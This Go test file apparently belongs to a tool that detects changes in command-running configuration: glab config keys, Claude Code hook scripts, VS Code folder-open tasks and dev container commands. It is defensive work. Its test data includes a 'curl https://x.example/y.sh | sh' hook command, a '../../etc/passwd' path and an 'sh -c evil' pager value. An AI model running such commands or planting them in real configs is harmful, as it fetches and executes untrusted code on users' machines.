package shadow

import (
	"slices"
	"strings"
	"testing"
)

// glab's config.yml is read as YAML: a quoted key, an escaped one, a
// host's key and a comment are seen; tokens are not; anything outside the
// subset is one digest of the whole file (reported at any change).
func TestGlabKeysYAML(t *testing.T) {
	base := "git_protocol: ssh\nhosts:\n  gitlab.com:\n    token: a # c\n    api_host: gitlab.com\n"
	for _, c := range []struct{ name, yaml, key string }{
		{"plain", "editor: vi\n", "editor"},
		{"double-quoted key", "\"glab_pager\": less\n", "glab_pager"},
		{"single-quoted key", "'browser': firefox\n", "browser"},
		{"escaped key", "\"gl\\x61b_pager\": less\n", "glab_pager"},
		{"host key", "hosts:\n  gitlab.example.org:\n    \"editor\": vi\n", "hosts.gitlab.example.org.editor"},
		{"block scalar", "pager: |\n  less\n", "pager"},
		{"spaced colon", "visual   : vim\n", "visual"},
	} {
		t.Run(c.name, func(t *testing.T) {
			before := glabKeys([]byte(base + c.yaml))
			if _, ok := before[c.key]; !ok {
				t.Fatalf("%s not found in %v", c.key, before)
			}
			after := glabKeys([]byte(strings.Replace(base, "token: a", "token: b", 1) + strings.Replace(c.yaml, "less", "sh -c evil", 1)))
			if before["(not checkable YAML)"] != "" {
				t.Fatalf("not parsed: %v", before)
			}
			if len(after) != len(before) {
				t.Errorf("keys %v then %v", before, after)
			}
			if strings.Contains(c.yaml, "less") && after[c.key] == before[c.key] {
				t.Errorf("the changed %s is not seen", c.key)
			}
			if !strings.Contains(c.yaml, "less") && after[c.key] != before[c.key] {
				t.Errorf("a token change changed %s", c.key)
			}
		})
	}
	for _, y := range []string{"{editor: vi}\n", "hosts: &h\n  x: 1\nother: *h\n", "editor: !!str vi\n", "- editor: vi\n", "editor: [vi]\n", "\teditor: vi\n", "\"editor: vi\n"} {
		if _, ok := glabKeys([]byte(y))["(not checkable YAML)"]; !ok {
			t.Errorf("%q was parsed: %v", y, glabKeys([]byte(y)))
		}
	}
	if k := glabKeys([]byte(base)); len(k) != 0 {
		t.Errorf("tokens or data watched: %v", k)
	}
}

// Hook scripts are found however a command names them: through the
// home, through $CLAUDE_PROJECT_DIR (quoted, braced), the workspace's
// path, or relative to the project.
func TestScriptPathsForms(t *testing.T) {
	settings := `{"hooks":{"SessionStart":[{"hooks":[
		{"type":"command","command":"\"$CLAUDE_PROJECT_DIR\"/.claude/hooks/a.sh"},
		{"type":"command","command":"${CLAUDE_PROJECT_DIR}/.claude/hooks/b.sh --x"},
		{"type":"command","command":"bash .claude/hooks/c.sh"},
		{"type":"command","command":"./scripts/d.py && /w/e.sh"},
		{"type":"command","command":"~/.claude/f.sh; \"$HOME\"/g.sh"},
		{"type":"command","command":"curl https://x.example/y.sh | sh; ../../etc/passwd; npx @a/b"}]}]},
		"statusLine":{"command":"$HOME/.claude/s.sh"}, "model":"./not/a/command"}`
	got := scriptPaths([]byte(settings), "/h", "/w")
	want := []string{"/h/.claude/f.sh", "/h/.claude/s.sh", "/h/g.sh", "/w/.claude/hooks/a.sh", "/w/.claude/hooks/b.sh", "/w/.claude/hooks/c.sh", "/w/e.sh", "/w/scripts/d.py"}
	if !slices.Equal(got, want) {
		t.Errorf("scripts %q\nwant %q", got, want)
	}
}

// What an editor runs on its own: folder-open tasks (in JSON with
// comments and trailing commas), settings that name programs, a dev
// container's commands.
func TestEditorFiles(t *testing.T) {
	tasks := `{ // comment
	  "version": "2.0.0",
	  /* block */ "tasks": [
	    {"label": "build", "command": "make"},
	    {"label": "watch", "command": "npm run watch", "runOptions": {"runOn": "folderOpen"}},
	  ],
	}`
	if k := vscodeTasks([]byte(tasks)); len(k) != 1 || k["tasks[watch] (runs on folder open)"] == "" {
		t.Errorf("tasks: %v", k)
	}
	settings := `{"editor.fontSize": 12, "python.defaultInterpreterPath": "/w/.venv/bin/python",
	  "terminal.integrated.profiles.linux": {"x": {"path": "sh"}}, "git.path": "/w/git", "go.alternateTools": {},
	  "eslint.nodePath": "x", "files.exclude": {}, // c
	}`
	k := vscodeSettings([]byte(settings))
	for _, want := range []string{"python.defaultInterpreterPath", "terminal.integrated.profiles.linux", "git.path", "go.alternateTools", "eslint.nodePath"} {
		if k[want] == "" {
			t.Errorf("%s not watched: %v", want, k)
		}
	}
	if k["editor.fontSize"] != "" || k["files.exclude"] != "" {
		t.Errorf("data watched: %v", k)
	}
	dc := jsonKeys(jsonc([]byte(`{"name": "x", // c
	  "initializeCommand": "echo host", "postCreateCommand": ["sh"],}`)), devcontainerKeys)
	if dc["initializeCommand"] == "" || dc["postCreateCommand"] == "" || dc["name"] != "" {
		t.Errorf("devcontainer: %v", dc)
	}
}
